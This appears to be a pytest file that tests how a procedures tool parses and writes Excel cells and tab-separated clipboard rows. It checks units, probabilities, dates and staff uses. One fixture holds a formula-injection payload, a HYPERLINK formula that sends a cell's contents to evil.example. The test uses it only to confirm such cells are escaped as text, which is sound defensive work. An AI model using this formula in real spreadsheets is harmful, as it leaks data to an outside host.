"""Cell text and tab-separated rows (the clipboard to and from Excel)."""

from __future__ import annotations

from dataclasses import replace
from datetime import date
from decimal import Decimal

import pytest

from models.codes import ActivityType, ImprovementAction, TimeSource, ValueClass
from procedures import snapshots as s
from procedures.cells import (
    parse_choice,
    parse_flag,
    parse_probability,
    parse_unit,
    parse_uses,
    rows_to_tsv,
    tsv_to_rows,
    uses_text,
)
from procedures.errors import InputError
from tests.procedures.builders import english_messages, load_example

_english = english_messages()


@pytest.fixture(scope="module")
def entity() -> s.Entity:
    return load_example()


def test_round_trip_through_tsv(entity: s.Entity) -> None:
    activities = entity.procedures[0].versions[0].activities
    text = rows_to_tsv(activities)
    assert text.count("\n") == len(activities)
    back = tsv_to_rows(text, entity)
    assert list(back) == [replace(a, uid="", based_on="") for a in activities]


def test_notes_and_time_provenance_travel_with_the_rows(entity: s.Entity) -> None:
    activity = replace(entity.procedures[0].versions[0].activities[0],
                       note="Ver acta\tdel 3", time_source=TimeSource.MEASURED,
                       time_date=date(2026, 3, 15), time_by="J. Chávez")
    text = rows_to_tsv([activity])
    assert text.rstrip("\n").split("\t")[-4:] == [
        "Ver acta del 3", "Measured", "15/03/2026", "J. Chávez"]
    back, = tsv_to_rows(text, entity)
    assert (back.note, back.time_source, back.time_date, back.time_by) == (
        "Ver acta del 3", TimeSource.MEASURED, date(2026, 3, 15), "J. Chávez")
    with pytest.raises(InputError) as raised:
        tsv_to_rows("Uno" + "\t" * 13 + "31/02/2026\n", entity)
    assert [p.location.column for p in raised.value.problems] == ["Time taken on"]


def test_excel_rows_with_words_symbols_and_blanks(entity: s.Entity) -> None:
    text = ("Actividad\tUnidad\tTipo\n"
            "Presentar solicitud\tCiudadano\t● Operación\tVA\t15\t\t\tsí\n"
            "Revisar\tTrámite Documentario\t■\tcontrol\t1h\t20%\t\t\t2×TMP\tA4×3\treducir\n"
            "Solo descripción\n")
    rows = tsv_to_rows(text, entity, default_unit="DU")
    assert [r.unit for r in rows] == [None, "TD", "DU"]
    assert rows[0].in_person and rows[0].minutes == Decimal(15)
    assert rows[1].type is ActivityType.REVISION and rows[1].value is ValueClass.CONTROL
    assert rows[1].probability == Decimal("0.2") and rows[1].minutes == Decimal(60)
    assert rows[1].staff == (s.StaffUse("TMP", Decimal(2)),)
    assert rows[1].resources == (s.ResourceUse("A4", Decimal(3)),)
    assert rows[1].action is ImprovementAction.REDUCIR
    assert rows[2].type is ActivityType.OPERACION and rows[2].minutes == 0


def test_bad_cells_are_all_reported_with_row_and_column(entity: s.Entity) -> None:
    text = "Uno\tXX\tbaile\nDos\tTD\t\t\tmucho\n"
    with pytest.raises(InputError) as raised:
        tsv_to_rows(text, entity)
    where = [(p.location.row, p.location.column) for p in raised.value.problems]
    assert where == [(1, "Unit"), (1, "Type"), (2, "Minutes")]


def test_cells() -> None:
    assert parse_choice(ActivityType, "traslado") is ActivityType.TRASLADO
    assert parse_choice(ActivityType, "→") is ActivityType.TRASLADO
    assert parse_choice(ValueClass, "No value added") is ValueClass.SVA
    assert parse_flag("Sí") and not parse_flag("")
    assert parse_probability("") == 1
    assert parse_probability("0,25") == Decimal("0.25")
    assert parse_probability("12.5 %") == Decimal("0.125")
    for bad in ("0", "101 %", "-3", "x"):
        with pytest.raises(ValueError):
            parse_probability(bad)
    assert parse_unit("td", {"TD": "Trámite"}) == "TD"
    assert parse_unit("Ciudadano", {}) is None
    uses = parse_uses("TMP, 2 SDU; Técnico Desarrollo Urbano×1.5",
                      {"TMP": "Técnico Mesa", "SDU": "Sub", "TDU": "Técnico Desarrollo Urbano"})
    assert uses == (("TMP", 1), ("SDU", 2), ("TDU", Decimal("1.5")))
    assert uses_text(uses) == "TMP, 2×SDU, 1.5×TDU"
    with pytest.raises(ValueError, match="there is no 'ZZ'"):
        parse_uses("ZZ", {"TMP": "x"})


def test_days_are_typed_day_first() -> None:
    from datetime import date

    from procedures.cells import day_text, parse_day

    assert parse_day("15/03/2026") == date(2026, 3, 15)
    assert parse_day(" 5-3-26 ") == date(2026, 3, 5)
    assert parse_day("2026-03-15") == date(2026, 3, 15)
    assert parse_day("") is None
    assert day_text(date(2026, 3, 5)) == "05/03/2026" and day_text(None) == ""
    with pytest.raises(ValueError, match="not a date of the calendar"):
        parse_day("31/02/2026")
    with pytest.raises(ValueError, match="dd/mm/yyyy"):
        parse_day("marzo")


def test_time_sources_are_read_in_either_language() -> None:
    from models.codes import TimeSource

    assert parse_choice(TimeSource, "medido") is TimeSource.MEASURED
    assert parse_choice(TimeSource, "Interview") is TimeSource.INTERVIEW
    assert parse_choice(TimeSource, "est") is TimeSource.ESTIMATE
    assert parse_choice(TimeSource, "", optional=True) is None


def test_a_probability_of_1_is_refused_with_the_two_ways_to_write_it() -> None:
    """"2" is 2 % and "0.5" is a half, so a bare "1" could be every case or 1 %."""
    for ambiguous in ("1", "1,0", " 1.00 "):
        with pytest.raises(ValueError) as caught:
            parse_probability(ambiguous)
        assert "100 %" in str(caught.value) and "0,01" in str(caught.value)
    assert parse_probability("100 %") == 1 and parse_probability("100") == 1
    assert parse_probability("1 %") == Decimal("0.01") and parse_probability("0,01") == \
        Decimal("0.01")
    assert parse_probability("2") == Decimal("0.02")
    with pytest.raises(ValueError, match="decimals"):
        parse_probability("1e-30")


def test_copied_rows_are_escaped_like_the_cells_of_our_workbooks(entity: s.Entity) -> None:
    """A description that a spreadsheet would run (=HYPERLINK…) is copied as text, with
    the apostrophe Excel reads as "this is text", and pastes back as it was."""
    risky = s.Activity(description='=HYPERLINK("http://evil.example/?"&A1,"Ver")',
                       unit="TD", type=ActivityType.OPERACION, value=ValueClass.VA,
                       note="+51 976 000 000", time_by="@jefe")
    text = rows_to_tsv([risky])
    cells = text.rstrip("\n").split("\t")
    assert cells[0] == "'" + risky.description
    assert cells[11] == "'+51 976 000 000" and cells[14] == "'@jefe"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    (back,) = tsv_to_rows(text, entity)
    assert (back.description, back.note, back.time_by) == (risky.description, risky.note,
                                                          risky.time_by)


def test_a_pasted_workbook_header_is_skipped_and_names_the_columns(entity: s.Entity) -> None:
    """Rows copied with the SUT template's header (in its own order) paste as steps."""
    text = ("Actividad\tUnidad_Organica\tDuracion\tTipo_Actividad\tTipo_Valor\n"
            "Recibir el expediente\tTD\t10\tRevision\tControl\n")
    (step,) = tsv_to_rows(text, entity)
    assert (step.description, step.unit, step.minutes, step.type, step.value) == (
        "Recibir el expediente", "TD", 10, ActivityType.REVISION, ValueClass.CONTROL)
    ours = "Activity\tUnit\tType\tValue\tMinutes\nSellar\tTD\tOperation\tVA\t2\n"
    assert [a.description for a in tsv_to_rows(ours, entity)] == ["Sellar"]
